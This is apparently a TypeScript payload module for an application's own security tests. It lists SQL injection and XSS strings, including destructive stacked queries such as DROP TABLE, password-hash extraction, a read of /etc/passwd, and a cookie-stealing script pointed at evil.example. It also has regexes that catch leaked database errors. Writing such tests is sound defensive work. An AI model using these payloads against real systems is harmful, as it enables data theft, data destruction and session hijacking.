// Classic injection payloads for the security suite (issue 7): SQL injection (tautologies,
// UNION, stacked queries, comments, time-based and error-based probes, encodings, MySQL/MariaDB
// and SQLite specifics) and XSS (script tags, event handlers, javascript: URLs, SVG, attribute
// and tag breakouts, template expressions, polyglots). Written for this suite from the usual
// lists (OWASP testing guide, PortSwigger cheat sheets); none of them targets a real system.

/** Seconds a time-based payload asks the database to wait; a request that takes this long ran it. */
export const SLEEP_SECONDS = 5;

export const SQLI: readonly string[] = [
  // tautologies and quote breakouts
  `' OR '1'='1`,
  `' OR '1'='1' --`,
  `' OR '1'='1' /*`,
  `' OR 1=1 -- `,
  `' OR 1=1#`,
  `" OR 1=1 --`,
  `" OR "1"="1`,
  `') OR ('1'='1`,
  `')) OR (('1'='1`,
  `1 OR 1=1`,
  `1' OR '1'='1`,
  `-1 OR 1=1`,
  `1) OR (1=1`,
  `' OR 'x'='x`,
  `admin' --`,
  `admin'#`,
  `admin' /*`,
  `' OR ''='`,
  `' OR 1 IN (SELECT 1) --`,
  `1 AND 1=2`,
  `' AND 1=0 UNION ALL SELECT 'admin', 'x' --`,
  // UNION-based
  `' UNION SELECT NULL --`,
  `' UNION SELECT NULL,NULL,NULL --`,
  `1 UNION SELECT username, password_hash FROM users --`,
  `' UNION SELECT 1,@@version,3 --`,
  `' UNION ALL SELECT table_name, NULL FROM information_schema.tables --`,
  `0 UNION SELECT sqlite_version() --`,
  `' UNION SELECT name, sql FROM sqlite_master --`,
  `1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3`,
  `'/**/UNION/**/SELECT/**/password_hash/**/FROM/**/users--`,
  // stacked queries
  `1; DROP TABLE users--`,
  `'; DROP TABLE users; --`,
  `"; DROP TABLE movies; --`,
  `1; DELETE FROM payments --`,
  `'; UPDATE users SET role='admin' WHERE '1'='1`,
  `'; UPDATE users SET password_hash='x' --`,
  `'; INSERT INTO users (username, email, password_hash, role) VALUES ('pwn','p@x.y','x','admin') --`,
  `1; TRUNCATE TABLE genres --`,
  `'; ALTER TABLE users ADD COLUMN pwned INT --`,
  `'; CREATE TABLE pwned (id INT) --`,
  `1; SHUTDOWN --`,
  // comment and whitespace tricks
  `'--`,
  `'#`,
  `'/*`,
  `*/ OR 1=1 /*`,
  `1'/**/OR/**/'1'='1`,
  `'%09OR%091=1--`,
  `' oR 1=1 -- -`,
  `'||'1'='1`,
  `' || 1=1 --`,
  // time-based blind
  `' OR SLEEP(${SLEEP_SECONDS}) --`,
  `1 AND SLEEP(${SLEEP_SECONDS})`,
  `'; SELECT SLEEP(${SLEEP_SECONDS}); --`,
  `' AND (SELECT * FROM (SELECT(SLEEP(${SLEEP_SECONDS})))a) --`,
  `1) OR SLEEP(${SLEEP_SECONDS})#`,
  `' OR BENCHMARK(50000000, MD5('x')) --`,
  `'; WAITFOR DELAY '0:0:${SLEEP_SECONDS}' --`,
  `' || pg_sleep(${SLEEP_SECONDS}) --`,
  `' AND 1=randomblob(500000000) --`,
  // error-based and boolean blind
  `'`,
  `"`,
  `\\`,
  `''`,
  `' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version))) --`,
  `' AND UPDATEXML(1, CONCAT(0x7e, USER()), 1) --`,
  `' AND (SELECT COUNT(*) FROM users) > 0 --`,
  `' AND SUBSTRING((SELECT password_hash FROM users LIMIT 1),1,1)='$' --`,
  `1 AND ASCII(SUBSTR((SELECT username FROM users LIMIT 1),1,1)) > 64`,
  `' AND 1=CAST((SELECT username FROM users LIMIT 1) AS INT) --`,
  `1 ORDER BY 100 --`,
  `' GROUP BY 1,2,3 HAVING 1=1 --`,
  // encodings and literals
  `0x61646d696e`,
  `%27%20OR%201%3D1--`,
  `%2527%2520OR%25201%253D1`,
  `＇ OR １=１ --`,
  `' OR 1=1 LIMIT 1 OFFSET 0 --`,
  `1' AND '1'='1' INTO OUTFILE '/tmp/pwn' --`,
  `' ; LOAD_FILE('/etc/passwd') --`,
  `1e1000`,
  `-9999999999999999999`,
  `9223372036854775808`,
  `NULL`,
  `%`,
  `_`,
  `%' AND 1=1 AND '%'='`,
];

export const XSS: readonly string[] = [
  // script tags
  `<script>alert(1)</script>`,
  `<SCRIPT>alert('XSS')</SCRIPT>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script>document.location='//evil.example/?c='+document.cookie</script>`,
  `</script><script>alert(1)</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script\\x20type="text/javascript">alert(1)</script>`,
  `<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>`,
  // event handlers
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(document.domain)">`,
  `<IMG SRC=/ onerror="alert(1)"></img>`,
  `<body onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`,
  `<textarea autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<a onmouseover=alert(1)>x</a>`,
  // SVG and MathML
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  // javascript: and data: URLs
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `javascript://%0aalert(1)`,
  ` javascript:alert(1)`,
  `<a href="javascript:alert(1)">x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  // attribute and tag breakouts
  `"><svg/onload=alert(1)>`,
  `'><script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `" onmouseover="alert(1)`,
  `' onfocus='alert(1)' autofocus='`,
  `" autofocus onfocus=alert(1) x="`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `--><script>alert(1)</script><!--`,
  `]]><script>alert(1)</script>`,
  // JavaScript-context breakouts
  `';alert(1);//`,
  `";alert(1);//`,
  `\\';alert(1);//`,
  `</script><img src=x onerror=alert(1)>`,
  `\${alert(1)}`,
  `\`-alert(1)-\``,
  // template and expression injection
  `{{7*7}}`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${7*7}`,
  `<%= 7*7 %>`,
  `#{7*7}`,
  `{{$on.constructor('alert(1)')()}}`,
  `[[7*7]]`,
  // encodings and polyglots
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  `<img """><script>alert(1)</script>">`,
  `<<script>alert(1);//<</script>`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<div style="background:url(javascript:alert(1))">`,
  `<x contenteditable onblur=alert(1)>lose focus</x>`,
];

/** A payload of either kind, labelled. */
export interface Payload {
  kind: 'sqli' | 'xss';
  value: string;
}

export const ALL_PAYLOADS: readonly Payload[] = [...SQLI.map((value) => ({ kind: 'sqli' as const, value })), ...XSS.map((value) => ({ kind: 'xss' as const, value }))];

/** Payloads that, if a database ran them, would make the request take SLEEP_SECONDS or more. */
export const isTimeBased = (p: string) => /SLEEP\(|BENCHMARK\(|WAITFOR DELAY|pg_sleep|randomblob/i.test(p);

/**
 * A sample of `n` payloads of each kind for field number `i`: consecutive fields get different
 * windows of the lists, so across the fields every payload is sent many times.
 */
export function sampleFor(i: number, n: number): Payload[] {
  const pick = (list: readonly string[], kind: Payload['kind']) => Array.from({ length: Math.min(n, list.length) }, (_, k) => ({ kind, value: list[(i * n + k) % list.length] }));
  return [...pick(SQLI, 'sqli'), ...pick(XSS, 'xss')];
}

/**
 * Text that means the database's error (or a stack trace) leaked into a response. Checked after
 * the payload itself is removed from the text (validation messages may quote the input).
 */
export const LEAK_PATTERNS: readonly RegExp[] = [
  /\bER_[A-Z_]{3,}/,
  /SQL syntax/i,
  /SQLITE_[A-Z]+/,
  /QueryFailedError/,
  /EntityNotFound|EntityMetadataNotFound|TypeORMError/,
  /mysql|mariadb/i,
  /\bsqlite3?\b/i,
  /\bat .*\.[cm]?[tj]sx?:\d+/,
  /\n\s+at \S/,
  /node_modules/,
];
